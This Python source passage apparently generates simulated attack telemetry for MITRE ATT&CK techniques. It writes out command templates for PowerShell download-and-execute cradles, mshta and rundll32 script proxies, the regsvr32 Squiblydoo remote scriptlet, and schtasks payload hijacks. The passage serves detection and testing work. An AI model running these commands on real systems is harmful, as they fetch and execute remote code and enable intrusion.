                     f"iex (iwr -UseBasicParsing '{url}')", f"iwr -useb {url} | iex",
                     f"Invoke-Expression (Invoke-WebRequest -Uri '{url}' -UseBasicParsing).Content",
                     f"(New-Object Net.WebClient).DownloadFile('{_url(s, 'exe')}','{drop}');Start-Process '{drop}'",
                     f"$w=[System.Net.WebClient]::new();$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('{url}')",
                     f"IEX ([System.Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('{url}')))",
                     f"Start-BitsTransfer -Source '{_url(s, 'exe')}' -Destination '{drop}'; & '{drop}'"))
    proc = s.ps(script, encoded=0.1)
    s.b.connect(proc, r.ext_ip(), 443 if url.startswith("https") else r.pick((80, 8080)))


@add("T1218.005", "Execution", entry=lone_entry)
def lone2_mshta(s: Session) -> None:
    """T1218.005: mshta runs a remote HTA or inline VBScript/JavaScript that starts a payload."""
    r = s.r
    choice = r.rng.randrange(4)
    if choice <= 1:
        args = f"{_url(s, r.pick(('hta', 'hta', 'html', '')))}"
    elif choice == 2:
        args = (f"vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -nop -w hidden -enc "
                f"{r.b64(40, 120)}\"\", 0:close\")")
    else:
        args = f"javascript:a=GetObject(\"script:{_url(s, 'sct')}\").Exec();close();"
    if r.chance(0.15):
        args = _drop(s, "hta")
    image = sys32(r, "mshta.exe")
    proc = s.run(image, f"{_typed(r, 'mshta', image)} {args}", via_shell=0.3, integrity=_integrity(r))
    if "http" in args:
        s.b.connect(proc, r.ext_ip(), r.pick((80, 443)))


@add("T1218.010", "Execution", entry=lone_entry)
def lone2_regsvr32(s: Session) -> None:
    """T1218.010 (Squiblydoo): regsvr32 fetches and runs a remote scriptlet through scrobj.dll
    (`regsvr32 /s /n /u /i:URL scrobj.dll`), or silently registers a dropped DLL."""
    r = s.r
    if r.chance(0.75):
        flags = r.sample(("/s", "/n", "/u"), 3) if r.chance(0.3) else ["/s", "/n", "/u"]
        if r.chance(0.2):
            flags = [f.replace("/", "-") for f in flags]
        url = _url(s, r.pick(("sct", "sct", "txt", "jpg")))
        scrobj = r.pick(("scrobj.dll", "scrobj.dll", "SCROBJ.DLL", "C:\\Windows\\System32\\scrobj.dll"))
        args = f"{' '.join(flags)} /i:{url} {scrobj}"
    else:
        args = f"{r.pick(('/s', '-s', '/s /i'))} {_drop(s, r.pick(('dll', 'dll', 'ocx', 'dat', 'tmp')))}"
    image = sys32(r, "regsvr32.exe")
    proc = s.run(image, f"{_typed(r, 'regsvr32', image)} {args}", via_shell=0.3, integrity=_integrity(r))
    if "http" in args:
        s.b.connect(proc, r.ext_ip(), r.pick((80, 443)))


@add("T1218.011", "Execution", entry=lone_entry)
def lone2_rundll32_proxy(s: Session) -> None:
    """T1218.011: rundll32 proxies execution: inline JavaScript through mshtml's RunHTMLApplication,
    url.dll/ieframe.dll OpenURL of an HTA or a file, advpack/setupapi INF sections, shell32 Control_RunDLL
    of a dropped CPL, or an export of a dropped DLL."""
    r = s.r
    options = (f"javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:{_url(s, 'sct')}\")",
               f"javascript:\"\\..\\mshtml.dll,RunHTMLApplication \";eval(\"w=new ActiveXObject(\\\"WScript.Shell\\\");"
               f"w.run(\\\"{_drop(s)}\\\",0,true);\");",
               f"url.dll,OpenURL {_drop(s, 'hta')}", f"url.dll,FileProtocolHandler {_drop(s)}",
               f"ieframe.dll,OpenURL {_url(s, 'hta')}", f"advpack.dll,LaunchINFSection {_drop(s, 'inf')},DefaultInstall_SingleUser,1,",
               f"setupapi.dll,InstallHinfSection DefaultInstall 128 {_drop(s, 'inf')}",
               f"shell32.dll,Control_RunDLL {_drop(s, 'cpl')}", f"{_drop(s, 'dll')},{r.pick(('DllRegisterServer', 'Start', '#1', 'EntryPoint'))}",
               f"zipfldr.dll,RouteTheCall {_drop(s)}", f"pcwutl.dll,LaunchApplication {_drop(s)}")
    image = sys32(r, "rundll32.exe")
    s.run(image, f"{_typed(r, 'rundll32', image)} {r.pick(options)}", via_shell=0.3, integrity=_integrity(r))


@add("T1053.005", "Execution", entry=lone_entry)
def lone2_task_run(s: Session) -> None:
    """T1053.005: a scheduled task is run on demand (`schtasks /run /tn NAME`), sometimes right after its
    action was pointed at a payload (`schtasks /change /tn NAME /tr PATH`) or a one-off task was created."""
    r = s.r
    name = _task_name(r)
    choice = r.rng.randrange(3)
    if choice == 1:
        _tool(s, "schtasks", f"/change /tn {_q(r, name)} /tr {_q(r, _payload(s), 0.6)}{r.pick(('', ' /ru SYSTEM', ' /enable'))}")
    elif choice == 2:
        _tool(s, "schtasks", f"/create /tn {_q(r, name)} /tr {_q(r, _payload(s), 0.6)} /sc once /st "
              f"{r.num(0, 23):02d}:{r.num(0, 59):02d}{r.pick(('', ' /ru SYSTEM'))} /f")
    _tool(s, "schtasks", f"{r.pick(('/run', '/Run', '/RUN'))} /tn {_q(r, name)}{r.pick(('', '', ' /i'))}")
    if r.chance(0.2):
        _tool(s, "schtasks", f"/delete /tn {_q(r, name)} /f")
